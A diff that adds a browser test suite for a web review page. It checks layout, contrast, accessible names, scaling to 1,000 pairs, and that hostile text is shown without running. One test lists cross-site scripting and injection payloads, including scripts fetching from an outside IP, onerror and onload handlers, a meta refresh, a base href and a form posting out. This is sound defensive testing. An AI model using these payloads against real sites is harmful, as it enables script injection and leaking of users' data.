@@ -1,0 +1,131 @@
+"""The page to the eye: it fits, it can be read in both themes, and texts that mean harm are only shown."""
+
+from contextlib import ExitStack
+from pathlib import Path
+
+import pytest
+
+from agent.review.web.writing import Writer
+from agent.schema import Act
+from tests.review.web.browser import Browser, Reader
+from tests.review.web.desks import KEPT, STEM, TYPED, Night, of, small
+from tests.review.web.served import serving
+
+pytestmark = pytest.mark.browser
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+@pytest.mark.parametrize("width", [1280, 480])
+def test_the_page_fits_its_window_in_both_themes(
+    chromium: Browser, told: Night, stack: ExitStack, scheme: str, width: int
+) -> None:
+    told.dataset = (
+        *told.dataset[:4],
+        of("d0004", "Somebody was here, and then they", stem="The letter was not for them. "),
+    )
+    reader = Reader(chromium, stack.enter_context(serving([told.desk()])), width, scheme)
+    reader.shot(f"review-{scheme}-{width}")
+    for keys in (("o",), ("v",), ("j", "j", "j"), ("e",)):
+        reader.keys(*keys)
+        assert reader.page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
+        reader.shot(f"review-{scheme}-{width}-{keys[0]}")
+    reader.keys("Escape", "k", "k", "k", "?")
+    reader.shot(f"review-{scheme}-{width}-help")
+    assert reader.complaints == []
+    reader.page.close()
+
+
+CONTRAST = """() => {
+  const canvas = document.createElement("canvas").getContext("2d", { willReadFrequently: true });
+  const rgba = (colour) => { canvas.clearRect(0, 0, 1, 1); canvas.fillStyle = colour; canvas.fillRect(0, 0, 1, 1);
+    return [...canvas.getImageData(0, 0, 1, 1).data]; };
+  const light = ([r, g, b]) => [r, g, b].map((c) => c / 255)
+    .map((c) => (c <= 0.03928 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4))
+    .reduce((sum, c, i) => sum + c * [0.2126, 0.7152, 0.0722][i], 0);
+  const ground = (e) => { for (; e; e = e.parentElement) { const c = rgba(getComputedStyle(e).backgroundColor);
+    if (c[3] === 255) return c; } return [255, 255, 255]; };
+  const poor = [];
+  for (const e of document.querySelectorAll("body *")) {
+    const own = [...e.childNodes].some((n) => n.nodeType === 3 && n.textContent.trim());
+    if (!own || !e.checkVisibility() || e.closest(":disabled, .unseen, option, noscript")) continue;
+    const [a, b] = [light(rgba(getComputedStyle(e).color)), light(ground(e))].sort((x, y) => y - x);
+    const ratio = (a + 0.05) / (b + 0.05);
+    if (ratio < 4.5) poor.push(`${e.tagName}.${e.className}: ${ratio.toFixed(2)}`);
+  }
+  return poor;
+}"""
+
+NAMELESS = """() => [...document.querySelectorAll("button, a, input:not([type=hidden]), select, textarea")]
+  .filter((e) => !(e.innerText || e.textContent || "").trim() && !e.labels?.length && !e.ariaLabel && !e.title)
+  .map((e) => e.outerHTML)"""
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+def test_everything_has_a_name_and_enough_contrast(
+    chromium: Browser, told: Night, stack: ExitStack, scheme: str
+) -> None:
+    bob = told.desk("bob")
+    bob.edit("d0001", STEM + TYPED, STEM + KEPT, bob.card("d0001").seal)
+    bob.decide("d0002", Act.REJECT, bob.card("d0002").seal)
+    reader = Reader(chromium, stack.enter_context(serving([told.desk()])), scheme=scheme)
+    reader.page.select_option("select[name=state]", "all")
+    reader.waits_for(".shown", "7 pairs")
+    for keys in ((), ("o",), ("v",), ("j",), ("e",), ("Escape", "?")):
+        reader.keys(*keys)
+        assert reader.page.evaluate(CONTRAST) == []
+        assert reader.page.evaluate(NAMELESS) == []
+    reader.page.close()
+
+
+HARM = (
+    "<script>window.ran = 1; fetch('http://198.51.100.1/')</script>",
+    "<img src=http://198.51.100.1/x onerror='window.ran = 1'>",
+    "</textarea></template></script><svg onload='window.ran = 1'>",
+    '"><a href="javascript:window.ran=1" autofocus onfocus="window.ran=1">x</a>',
+    '" hx-on::load="window.ran = 1" hx-trigger="load" hx-get="http://198.51.100.1/',
+    "{{ 7 * 7 }} {% for x in y %} ${window.ran = 1}",
+    "\u202eDROP\u202c \u2066isolated\u2069 zero\u200bwidth",
+    "\x1b[31mred\x1b]0;title\x07 nul\x00 bell\x07",
+    "<style>@import 'http://198.51.100.1/x.css'; * { display: none }</style>",
+    "<meta http-equiv=refresh content='0;url=http://198.51.100.1/'><base href='http://198.51.100.1/'>",
+    "<iframe srcdoc='<script>parent.ran = 1</script>'></iframe><form action='http://198.51.100.1/'><input name=q>",
+    "a" * 65536,
+    "\u0300" * 300 + "[/bold] %s %n ../../etc",
+)
+
+
+def test_texts_that_mean_harm_are_shown_and_nothing_of_them_runs(
+    chromium: Browser, tmp_path: Path, stack: ExitStack
+) -> None:
+    told = small(tmp_path, len(HARM))
+    desk = told.desk("<b onclick='window.ran=1'>ann")
+    for card, harm in zip(desk.cards(), HARM, strict=True):
+        desk.edit(card.pair, f"Once. {harm} so I", "Once there was peace, so I", card.seal, f"note {harm[:300]}")
+    writer = Writer(lambda trait: None, print, str, lambda trait: f"run {HARM[0]}")  # type: ignore[arg-type,return-value]
+    reader = Reader(chromium, stack.enter_context(serving([desk], writer)))
+    for harm in HARM:
+        reader.keys("o", "v", "e")
+        assert reader.page.input_value("#edit-positive").startswith("Once. ")
+        reader.keys("Escape")
+        shown = reader.page.inner_text('[data-of="positive"]')
+        assert shown.startswith("Once. ")
+        assert harm.isascii() is False or not harm.isprintable() or harm in shown
+        reader.keys("j")
+    reader.page.click("#apply")
+    reader.waits_for("#command", "<script>")
+    assert reader.page.evaluate("window.ran") is None
+    assert reader.page.title().startswith("toy/refusal")
+    assert (
+        reader.page.locator("#panel script, #panel img, #panel iframe, #panel svg, #panel style, #panel a").count() == 0
+    )
+    assert (reader.complaints, reader.called) == ([], {reader.page.url.split("/")[2]})
+    reader.page.close()
+
+
+def test_a_thousand_pairs_open_and_answer(chromium: Browser, tmp_path: Path, stack: ExitStack) -> None:
+    told = small(tmp_path, 1000)
+    reader = Reader(chromium, stack.enter_context(serving([told.desk()])))
+    assert len(reader.list()) == 1000
+    reader.keys("a", "j", "r")
+    assert told.acts() == [("approve", "n0000"), ("reject", "n0002")]
+    reader.page.close()
